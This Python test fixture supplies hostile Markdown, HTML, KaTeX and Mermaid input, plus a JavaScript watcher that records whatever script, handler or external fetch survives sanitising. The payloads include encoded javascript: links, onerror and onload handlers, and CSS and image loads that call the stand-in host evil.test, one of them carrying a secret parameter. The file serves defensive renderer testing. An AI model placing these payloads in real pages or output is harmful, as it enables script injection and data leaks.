"""Markdown by those who mean harm, and a watch over what it does to a page."""

from __future__ import annotations

from typing import Final

HTML: Final = """<script>window.hacked = 1</script><img src="https://evil.test/a.png" onerror="window.hacked = 2">

<iframe src="https://evil.test/" srcdoc="<script>parent.hacked = 3</script>"></iframe>
<svg onload="window.hacked = 4"><script>window.hacked = 5</script><use href="https://evil.test/s.svg#x"/></svg>
<style>@import url("https://evil.test/i.css"); body { background: url(https://evil.test/b.png) }</style>
<link rel="stylesheet" href="https://evil.test/c.css"><link rel="preconnect" href="https://evil.test">
<meta http-equiv="refresh" content="0; url=https://evil.test/"><base href="https://evil.test/">
<form action="https://evil.test/f"><input name="key" autofocus onfocus="window.hacked = 6"><button>go</button></form>
<div style="background: url(https://evil.test/d.png); position: fixed; inset: 0" onclick="window.hacked = 7">over</div>
<p class="fixed inset-0 z-50 bg-page" id="root">all over</p> <details open ontoggle="window.hacked = 8">x</details>
<video src="https://evil.test/v.mp4" autoplay poster="https://evil.test/p.png"></video>
<audio src="/me" autoplay></audio>
<object data="https://evil.test/o.swf"></object><embed src="https://evil.test/e"><img src="/sign-out">
<math><mtext><a xlink:href="javascript:window.hacked=9">m</a>
<maction actiontype="statusline#https://evil.test">n</maction>
</mtext></math>
<img srcset="https://evil.test/w.png 1x"><body onload="window.hacked = 10">
<template><script>1</script></template>
"""
LINKS: Final = """
[a1](javascript:window.hacked=11) [a2](JaVaScRiPt:window.hacked=12) [a3](&#106;avascript&#58;window.hacked=13)
[a4](java&#9;script:window.hacked=14) [a5](<  javascript:window.hacked=15>) [a6](data:text/html,<script>1</script>)
[a7](vbscript:msgbox) [a8](\u0001javascript:window.hacked=16) [a9](javascript&colon;window.hacked=17)
[b1](blob:https://evil.test/1) [b2](file:///etc/passwd) [b3](view-source:https://evil.test) [b4](//evil.test/ok "title")
<a href="java&#10;script:window.hacked=18">c1</a> <a href=" &#x6A;avascript:window.hacked=19">c2</a>
<a href="https://evil.test/ok" onclick="window.hacked=20" ping="https://evil.test/ping" target="_self">c3</a>
<javascript:window.hacked=21> <https://evil.test/auto> [ref][r] ![pixel](https://evil.test/pixel.png?secret=1)
![d](data:image/svg+xml,<svg/onload=alert(1)>) ![r][r] [![in](https://evil.test/in.png)](javascript:window.hacked=22)

[r]: javascript:window.hacked=23
"""
MATH: Final = r"""
Inline $\href{javascript:window.hacked=24}{h}$ and $\url{javascript:window.hacked=25}$ and
$\includegraphics[height=1em]{https://evil.test/k.png}$ and $\htmlClass{fixed inset-0}{c}$ and
$\htmlStyle{position:fixed;inset:0;background:url(https://evil.test/ks.png)}{s}$ and $\htmlData{x=1}{d}$.

$$
\def\a{\a\a}\a \htmlId{root}{i}
$$
"""
_FENCE: Final = "\n```mermaid\n{source}\n```\n"
DIAGRAMS: Final = {
    "html label": """flowchart LR
  A["<img src=https://evil.test/e.png onerror=window.hacked=30>"] --> B["<script>window.hacked=31</script>"]
  click A "javascript:window.hacked=32" _self
  click B call hacked()""",
    "init": """%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true},
 "themeCSS": "@import url(https://evil.test/t.css); * { fill: url(https://evil.test/t.svg#a) }",
 "fontFamily": "x; } * { background: url(https://evil.test/font) } .a {",
 "themeVariables": {"primaryColor": "red; background: url(https://evil.test/tv)"}}}%%
flowchart LR
  A["<b onclick=window.hacked=33>bold</b>"] --> B""",
    "front matter": """---
title: "<img src=x onerror=window.hacked=34>"
config:
  securityLevel: loose
  htmlLabels: true
  themeCSS: "* { background: url(https://evil.test/fm.png) }"
---
flowchart LR
  A[one] --> B[two]
  A["#lt;img src=https://evil.test/n.png onerror=window.hacked=39#gt;"] --> B""",
    "picture": """flowchart LR
  A@{ img: "https://evil.test/img.png", label: "x", w: 60, h: 60 } --> B[two]""",
    "links": """sequenceDiagram
  participant A as <img src=x onerror=window.hacked=35>
  link A: Dashboard @ https://evil.test/d
  links A: {"x": "javascript:window.hacked=36"}
  A->>B: <svg onload=window.hacked=37>hello</svg>""",
    "classes": """classDiagram
  class Duck
  link Duck "https://evil.test/duck" "tip"
  click Duck href "javascript:window.hacked=38"
  Duck : +eat() <iframe src=x>
  Duck : +img~src~ beak""",
}
MERMAID: Final = "".join(_FENCE.format(source=source) for source in DIAGRAMS.values())
HOSTILE: Final = HTML + LINKS + MATH + MERMAID + "\nThe end.\n"
CUTS: Final = (
    '<img src="https://evil.test/a.png" onerror="window.hacked=1',
    "<script>window.hacked = 2",
    "<iframe src=https://evil.test/",
    "<style>@import url(https://evil.test/c.css)",
    "[link](javascript:window.hacked=3",
    "![pixel](https://evil.test/p.png",
    '<a href="javascript:window.hacked=4">open',
    "<!-- <img src=x onerror=window.hacked=5>",
    "$\\href{javascript:window.hacked=6}{",
    '```mermaid\nflowchart LR\n  A["<img src=https://evil.test/q.png onerror=window.hacked=7>"] --> B',
    "<svg><animate onbegin=window.hacked=8",
    "<<script>script>window.hacked=9<</script>/script>",
)
"""Replies that end in the middle of what they are up to."""
WATCH: Final = r"""() => {
  const note = (what) => { try { (top.bad_ ??= []).push(what); } catch {} };
  addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
    note(`policy: ${violatedDirective} ${blockedURI}`));
  if (window !== top) return;
  window.bad_ ??= [];
  window.seen_ = 0;
  const refused = new Set(("script iframe frame frameset object embed style link meta base form video audio source " +
    "track applet portal template foreignobject use animate set image feimage dialog textarea select").split(" "));
  const asks = new Set("src srcset href xlink:href action formaction poster background data ping srcdoc".split(" "));
  const check = (element) => {
    if (!element.closest?.("article [data-text]")) return;
    window.seen_ += 1;
    const tag = element.localName.toLowerCase();
    if (refused.has(tag)) note(`element: ${element.outerHTML.slice(0, 120)}`);
    for (const { name, value } of element.attributes) {
      const lower = name.toLowerCase();
      if (lower.startsWith("on")) note(`handler: ${name} of ${tag}`);
      if (lower === "style" && /url\(|image-set|expression|position\s*:\s*fixed/i.test(value)) note(`style: ${value}`);
      if (lower === "id" && !value.startsWith("user-content-") && !/^[_«:]?r/i.test(value)) note(`id: ${value}`);
      if (!asks.has(lower)) continue;
      const safe = tag === "a" && lower === "href" ? /^(https?|mailto|tel):/i.test(value)
        : tag === "img" && lower === "src" && element.closest("[data-diagram]") && value.startsWith("data:image/svg");
      if (!safe) note(`${name} of ${tag}: ${value.slice(0, 120)}`);
    }
  };
  new MutationObserver((records) => {
    for (const { type, target, addedNodes } of records) {
      if (type === "attributes") check(target);
      for (const node of addedNodes)
        if (node.nodeType === 1) for (const each of [node, ...node.querySelectorAll("*")]) check(each);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
}"""
"""Notes in `bad_` what could run or fetch, at each change of what is drawn; counts in `seen_` what it looked at."""
